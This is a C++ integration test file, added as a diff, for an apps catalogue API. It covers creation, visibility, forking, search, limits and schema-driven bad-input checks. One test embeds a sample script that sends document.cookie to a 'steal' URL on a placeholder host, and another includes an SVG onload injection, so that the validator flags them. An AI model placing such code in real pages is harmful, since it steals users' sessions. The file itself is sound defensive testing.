@@ -1,0 +1,213 @@
+// The apps catalogue service against the real host (test profile: the bearer token is the account
+// id): create -> read -> edit -> fork -> search -> embed -> test over /api/v1/apps, who sees what,
+// the limits of html and price, unique slugs, one MCP call, and bad input of every method
+// (generated from its schema in /api/v1/openapi.json) answered 4xx, never 5xx.
+#include <gtest/gtest.h>
+
+#include "bad_inputs.hpp"
+#include "catalogue_test.hpp"
+#include "host_process.hpp"
+#include "http_client.hpp"
+#include "mcp_client.hpp"
+
+using nlohmann::json;
+using namespace platform::test;
+
+namespace {
+
+const std::string kHtml =
+    "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>Notes count</title></head>\n"
+    "<body><p id=\"n\">...</p>\n<script>\n"
+    "platform.call('notes', 'list', {}).then(r => {\n"
+    "  document.getElementById('n').textContent = r.notes.length + ' notes';\n"
+    "});\n</script></body></html>\n";
+
+class AppsApi : public CatalogueTest {
+protected:
+    AppsApi() : CatalogueTest("apps") {}
+    json create(const json& body, const std::string& who) { return ok("create", body, who); }
+};
+
+TEST_F(AppsApi, CreateReadEditForkSearchEmbedTest) {
+    // create: private by default, slug from the name, description from the name.
+    json app =
+        create({{"name", "Notes Count"}, {"html", kHtml}, {"tags", "notes, tools"}}, "ap-ann");
+    ASSERT_TRUE(app.is_object());
+    const std::string slug = app["slug"];
+    EXPECT_EQ(slug.rfind("notes-count", 0), 0u) << slug;
+    EXPECT_EQ(app["public"], false);
+    EXPECT_EQ(app["description"], "Notes Count");
+    EXPECT_EQ(app["price"], 0);
+
+    // read: the owner sees the HTML; another account (or nobody) gets 404 for a private app.
+    auto mine = get("read?slug=" + slug, "ap-ann");
+    ASSERT_EQ(mine.status, 200) << mine.body;
+    EXPECT_EQ(mine.json()["data"]["html"], kHtml);
+    EXPECT_EQ(get("read?slug=" + slug, "ap-bob").status, 404);
+    EXPECT_EQ(api.get("/api/v1/apps/read?slug=" + slug).status, 404);
+
+    // edit: omitted fields keep their value; publishing is asked for explicitly.
+    auto edited = post(
+        "edit", {{"slug", slug}, {"description", "Counts your notes"}, {"public", true}}, "ap-ann");
+    ASSERT_EQ(edited.status, 200) << edited.body;
+    EXPECT_EQ(edited.json()["data"]["html"], kHtml);
+    EXPECT_EQ(edited.json()["data"]["name"], "Notes Count");
+    EXPECT_EQ(edited.json()["data"]["tags"], "notes, tools");
+    EXPECT_EQ(post("edit", {{"slug", slug}, {"name", "Taken"}}, "ap-bob").status, 404);
+
+    // Public now: others see the metadata, never the source.
+    auto theirs = get("read?slug=" + slug, "ap-bob");
+    ASSERT_EQ(theirs.status, 200) << theirs.body;
+    EXPECT_FALSE(theirs.json()["data"].contains("html"));
+    EXPECT_EQ(theirs.json()["data"]["description"], "Counts your notes");
+    EXPECT_EQ(api.get("/api/v1/apps/read?slug=" + slug).status, 200);
+
+    // fork: a private copy in bob's account under a new slug, with its source reference.
+    json fork = ok("fork", {{"slug", slug}}, "ap-bob");
+    ASSERT_TRUE(fork.is_object());
+    const std::string copy = fork["slug"];
+    EXPECT_NE(copy, slug);
+    EXPECT_EQ(fork["owner"], "ap-bob");
+    EXPECT_EQ(fork["public"], false);
+    EXPECT_EQ(fork["html"], kHtml);
+    EXPECT_EQ(fork["source"], (json{{"kind", "fork"}, {"slug", slug}}));
+    EXPECT_EQ(get("read?slug=" + copy, "ap-ann").status, 404);
+    json named = ok("fork", {{"slug", slug}, {"new_slug", "bobs-notes"}}, "ap-bob");
+    EXPECT_EQ(named["slug"], "bobs-notes");
+
+    // search and collection: the caller's own apps only.
+    EXPECT_EQ(listed(get("search?query=notes", "ap-bob"), "apps", "slug"),
+              (std::vector<std::string>{"bobs-notes", copy}));
+    EXPECT_EQ(listed(get("search?tag=TOOLS", "ap-ann"), "apps", "slug"),
+              std::vector<std::string>{slug});
+    EXPECT_TRUE(listed(get("search?query=zebra", "ap-ann"), "apps", "slug").empty());
+    auto collection = get("collection", "ap-bob");
+    ASSERT_EQ(collection.status, 200) << collection.body;
+    EXPECT_EQ(collection.json()["data"]["apps"].size(), 2u);
+    EXPECT_EQ(collection.json()["data"]["sources"],
+              json::array({{{"kind", "fork"}, {"slug", slug}}}));
+
+    // embed: bob's private copy stays private and keeps its access.
+    auto embed = get("embed?slug=" + copy, "ap-bob");
+    ASSERT_EQ(embed.status, 200) << embed.body;
+    EXPECT_EQ(embed.json()["data"]["published"], false);
+    EXPECT_EQ(embed.json()["data"]["embed"]["visible_to"], "owner");
+    EXPECT_EQ(embed.json()["data"]["embed"]["html"], kHtml);
+    EXPECT_EQ(get("read?slug=" + copy, "ap-bob").json()["data"]["public"], false);
+    EXPECT_EQ(get("embed?slug=" + copy, "ap-ann").status, 404);
+
+    // test: the app calls only notes/list through the SDK: no problem.
+    auto checked = post("test", {{"slug", copy}}, "ap-bob");
+    ASSERT_EQ(checked.status, 200) << checked.body;
+    EXPECT_EQ(checked.json()["data"]["ok"], true) << checked.body;
+    EXPECT_EQ(checked.json()["data"]["calls_checked"], true);
+    EXPECT_EQ(post("test", {{"slug", slug}}, "ap-bob").status, 404);
+}
+
+TEST_F(AppsApi, TestNamesEachProblemsRule) {
+    const std::string html =
+        "<div>\n<script>fetch('https://example.com/steal?c=' + document.cookie);\n"
+        "platform.call('nosuch', 'method', {});</script>\n<img src=\"https://example.com/x.png\">";
+    json app = create({{"name", "Leaky"}, {"html", html}}, "ap-check");
+    auto r = post("test", {{"slug", app["slug"]}}, "ap-check");
+    ASSERT_EQ(r.status, 200) << r.body;
+    const json d = r.json()["data"];
+    EXPECT_EQ(d["ok"], false);
+    std::vector<std::string> rules;
+    for (const auto& p : d["problems"])
+        rules.push_back(p["rule"].get<std::string>() + "@" + std::to_string(p["line"].get<int>()));
+    EXPECT_EQ(rules, (std::vector<std::string>{"well-formed@1", "external@2", "sandbox@2", "sdk@3",
+                                               "external@4"}))
+        << d.dump(2);
+}
+
+TEST_F(AppsApi, LimitsAndSlugs) {
+    auto big =
+        post("create", {{"name", "Big"}, {"html", std::string(256 * 1024 + 1, 'a')}}, "ap-lim");
+    expect_400(big, "html");
+    EXPECT_EQ(
+        post("create", {{"name", "Big"}, {"html", std::string(256 * 1024, 'a')}}, "ap-lim").status,
+        200);
+    expect_400(post("create", {{"name", "P"}, {"html", "<p>x</p>"}, {"price", 1001}}, "ap-lim"),
+               "price");
+    expect_400(post("create", {{"name", "P"}, {"html", "<p>x</p>"}, {"price", -1}}, "ap-lim"),
+               "price");
+    EXPECT_EQ(create({{"name", "P"}, {"html", "<p>x</p>"}, {"price", 1000}}, "ap-lim")["price"],
+              1000);
+    expect_400(post("edit", {{"slug", "p"}, {"price", 1001}}, "ap-lim"), "price");
+    expect_400(post("edit", {{"slug", "p"}, {"html", std::string(256 * 1024 + 1, 'a')}}, "ap-lim"),
+               "html");
+    expect_400(post("create", {{"html", "<p>x</p>"}}, "ap-lim"), "name");
+    expect_400(post("create", {{"name", "x"}}, "ap-lim"), "html");
+    expect_400(post("create", {{"name", "x"}, {"html", "h"}, {"slug", "Not A Slug"}}, "ap-lim"),
+               "slug");
+    expect_400(
+        post("create", {{"name", "x"}, {"html", "h"}, {"icon", "<svg onload=\"x()\"></svg>"}},
+             "ap-lim"),
+        "icon");
+    expect_400(post("create", {{"name", "x"}, {"html", "h"}, {"public", true}, {"private", true}},
+                    "ap-lim"),
+               "public");
+
+    // The same slug asked for twice, by two accounts: the second gets a unique one.
+    json first = create({{"name", "Dice"}, {"slug", "dice"}, {"html", "<p>6</p>"}}, "ap-one");
+    json second = create({{"name", "Dice"}, {"slug", "dice"}, {"html", "<p>4</p>"}}, "ap-two");
+    json third = create({{"name", "Dice"}, {"html", "<p>2</p>"}}, "ap-one");
+    EXPECT_EQ(first["slug"], "dice");
+    EXPECT_NE(second["slug"], "dice");
+    EXPECT_NE(third["slug"], "dice");
+    EXPECT_NE(third["slug"], second["slug"]);
+    EXPECT_EQ(
+        get("read?slug=" + second["slug"].get<std::string>(), "ap-two").json()["data"]["html"],
+        "<p>4</p>");
+    EXPECT_EQ(get("read?slug=dice", "ap-one").json()["data"]["html"], "<p>6</p>");
+
+    // Access and verbs.
+    EXPECT_EQ(api.post_json("/api/v1/apps/create", {{"name", "x"}, {"html", "h"}}).status, 401);
+    EXPECT_EQ(api.get("/api/v1/apps/collection").status, 401);
+    EXPECT_EQ(api.get("/api/v1/apps/create?name=x&html=h", as("ap-lim")).status, 405);
+    EXPECT_EQ(get("read?slug=no-such-app", "ap-lim").status, 404);
+}
+
+TEST_F(AppsApi, McpMatchesHttp) {
+    json app = create({{"name", "Mcp app"}, {"html", kHtml}}, "ap-mcp");
+    McpClient mcp(host->api_port(), "ap-mcp");
+    mcp.initialize();
+    const json tool = mcp.call_tool("apps_read", {{"slug", app["slug"]}});
+    ASSERT_FALSE(tool.value("isError", false)) << tool;
+    EXPECT_EQ(tool["structuredContent"],
+              get("read?slug=" + app["slug"].get<std::string>(), "ap-mcp").json()["data"]);
+}
+
+// Every apps method with inputs generated from its schema: a broken one is a 4xx naming the
+// argument; one valid by the schema may succeed or be refused, never a 5xx.
+TEST_F(AppsApi, BadInputsAre4xxNever5xx) {
+    create({{"name", "Target"}, {"slug", "target"}, {"html", kHtml}, {"public", true}}, "sweeper");
+    const json doc = api.get("/api/v1/openapi.json").json();
+    int methods = 0, cases = 0;
+    for (const auto& [path, item] : doc["paths"].items()) {
+        if (path.rfind("/api/v1/apps/", 0) != 0) continue;
+        ++methods;
+        const json& op = item["post"];
+        BadInputOptions options;
+        options.max_body = op.value("x-platform-max-body", size_t(1) << 20);
+        for (const BadInput& c :
+             bad_inputs(op["requestBody"]["content"]["application/json"]["schema"], options)) {
+            ++cases;
+            Headers h = as("sweeper");
+            h["Content-Type"] = "application/json";
+            auto r = api.post(path, c.body(), h);
+            EXPECT_LT(r.status, 500) << path << " " << c.label << ": " << r.body;
+            if (c.valid_by_schema) continue;
+            EXPECT_GE(r.status, 400) << path << " " << c.label << ": " << r.body;
+            if (r.status == 400) {
+                EXPECT_TRUE(names(r.json()["error"]["message"].get<std::string>(), c.argument))
+                    << path << " " << c.label << ": " << r.body;
+            }
+        }
+    }
+    EXPECT_EQ(methods, 8);
+    EXPECT_GT(cases, 100);
+}
+
+}  // namespace
